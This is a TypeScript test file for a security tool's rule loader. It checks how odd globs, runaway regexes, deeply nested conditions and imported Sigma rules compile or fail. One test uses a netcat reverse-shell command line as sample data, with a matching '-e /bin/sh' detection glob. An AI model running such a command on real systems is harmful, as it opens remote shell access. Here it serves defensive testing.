// Rules nobody here wrote must not break the loader: globs with any punctuation compile, and huge or
// deeply nested conditions either load or give one located diagnostic, never a stack overflow.
import type { VmiEvent } from '../introspect/events/event.js';
import { Detector } from './detector.js';
import { formatDiagnostic } from './diagnostics.js';
import type { LoadResult } from './load.js';
import { loadRuleFiles } from './load.js';
import { importSigma } from './sigma.js';

const load = (text: string): LoadResult => loadRuleFiles([{ file: 'l.yaml', text }]);
const rule = (condition: string): string =>
  `- rule: r\n  severity: low\n  condition: '${condition.replace(/'/g, "''")}'\n`;
const exec = (process: Record<string, unknown>): VmiEvent => ({
  type: 'process.exec',
  domain: 'g',
  time: 0,
  process,
});
const fires = (result: LoadResult, event: VmiEvent): boolean => {
  let fired = false;
  new Detector(result.ruleset).process(event, () => (fired = true));
  return fired;
};

describe('hostile rule shapes', () => {
  it.each(['*-e /bin/sh*', '*[a-c]-x*', '*{a,b}()|+.^$\\\\*', '[!-]*', '*/'])(
    'compiles the glob %j',
    (glob) => {
      const result = load(rule(`process.command_line glob "${glob}"`));
      expect(result.diagnostics.map(formatDiagnostic)).toEqual([]);
      expect(result.ruleset.rules).toHaveLength(1);
    },
  );

  it('matches a glob with a dash as the docs show', () => {
    const result = load(rule('process.command_line glob "*-e /bin/sh*"'));
    expect(fires(result, exec({ command_line: 'nc 1.2.3.4 4444 -e /bin/sh -i' }))).toBe(true);
    expect(fires(result, exec({ command_line: 'nc 1.2.3.4 4444' }))).toBe(false);
  });

  it('runs a regex that backtracks badly elsewhere on a hostile command line, in linear time', () => {
    // On a backtracking matcher this line takes over a minute; RE2 answers at once.
    const result = load(rule('process.command_line regex "(a+)+$"'));
    expect(result.errorCount).toBe(0);
    expect(fires(result, exec({ command_line: `${'a'.repeat(30)}!` }))).toBe(false);
    expect(fires(result, exec({ command_line: 'aaa' }))).toBe(true);
  });

  it('refuses lookaround with a located BAD_REGEX', () => {
    const result = load(rule('process.command_line regex "(?<=x)y"'));
    expect(result.diagnostics.map((d) => `${d.code} ${d.at.line}:${d.at.col}`)).toEqual([
      'BAD_REGEX 3:42',
    ]);
  });

  it('loads an or of 3,000 terms', () => {
    const terms = Array.from({ length: 3000 }, (_, index) => `process.name = p${index}`);
    const result = load(rule(`type = process.exec and (${terms.join(' or ')})`));
    expect(result.diagnostics.map(formatDiagnostic)).toEqual([]);
    expect(fires(result, exec({ name: 'p2999' }))).toBe(true);
    expect(fires(result, exec({ name: 'q' }))).toBe(false);
  });

  it('loads an and of 3,000 terms', () => {
    const terms = Array.from({ length: 3000 }, (_, index) => `process.name != p${index}`);
    const result = load(rule(terms.join(' and ')));
    expect(result.errorCount).toBe(0);
    expect(fires(result, exec({ name: 'q' }))).toBe(true);
  });

  it('refuses 3,000 nested parentheses with a located diagnostic', () => {
    const condition = `${'('.repeat(3000)}process.name = x${')'.repeat(3000)}`;
    const result = load(rule(condition));
    expect(result.diagnostics.map((d) => `${d.code} ${d.at.line}`)).toEqual(['SYNTAX 3']);
    expect(result.diagnostics[0]!.message).toMatch(/nested deeper than/);
  });

  it('refuses 3,000 nested nots with a located diagnostic', () => {
    const result = load(rule(`${'not '.repeat(3000)}process.name = x`));
    expect(result.diagnostics.map((d) => d.code)).toEqual(['SYNTAX']);
  });

  it('refuses macros nested past the limit with a located diagnostic', () => {
    const macros = Array.from(
      { length: 400 },
      (_, index) =>
        `- macro: m${index}\n  condition: (m${index + 1} and process.pid != ${index})\n`,
    ).join('');
    const result = load(`${macros}- macro: m400\n  condition: process.name = x\n${rule('m0')}`);
    expect(result.diagnostics.map((d) => d.code)).toContain('TOO_DEEP');
    expect(result.ruleset.rules).toHaveLength(0);
  });
});

describe('hostile Sigma rules', () => {
  const sigma = (count: number, title = 'many'): string => `
title: ${title}
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains:
${Array.from({ length: count }, (_, index) => `      - 'tok${index}'`).join('\n')}
  condition: selection
level: low
`;

  it.each([3000, 5000])('imports a rule with %i values and loads it', (count) => {
    const result = importSigma([{ file: 's.yml', text: sigma(count) }]);
    expect(result.diagnostics.map(formatDiagnostic)).toEqual([]);
    const loaded = loadRuleFiles([{ file: 'i.yaml', text: result.yaml }]);
    expect(loaded.diagnostics.map(formatDiagnostic)).toEqual([]);
    expect(fires(loaded, exec({ command_line: `x TOK${count - 1} y` }))).toBe(true);
  });

  it('writes the good rules of a batch with one bad rule', () => {
    const result = importSigma([
      { file: 'a.yml', text: sigma(3, 'first') },
      {
        file: 'b.yml',
        text: `title: deep\nlogsource: { product: linux, category: process_creation }\ndetection:\n  selection: { Image: /x }\n  condition: ${'('.repeat(3000)}selection${')'.repeat(3000)}\n`,
      },
      { file: 'c.yml', text: sigma(3, 'last') },
    ]);
    expect(result.imported.map((rule) => rule.title)).toEqual(['first', 'last']);
    expect(result.diagnostics.map((d) => `${d.at.file} ${d.code}`)).toEqual([
      'b.yml SIGMA_UNMAPPED',
    ]);
  });
});

describe('names that look like lists', () => {
  it('reports a set naming an undefined list instead of comparing with its name', () => {
    const result = load(rule('process.name in (no_such_list)'));
    expect(result.diagnostics.map((d) => `${d.code} ${d.at.line}:${d.at.col}`)).toEqual([
      'UNKNOWN_LIST 3:32',
    ]);
    expect(result.ruleset.rules).toHaveLength(0);
  });

  it('keeps plain words and quoted names as text', () => {
    const result = load(rule('process.name in (bash, "no_such_list", kworker/0:1)'));
    expect(result.diagnostics.map(formatDiagnostic)).toEqual([]);
    expect(fires(result, exec({ name: 'no_such_list' }))).toBe(true);
  });
});
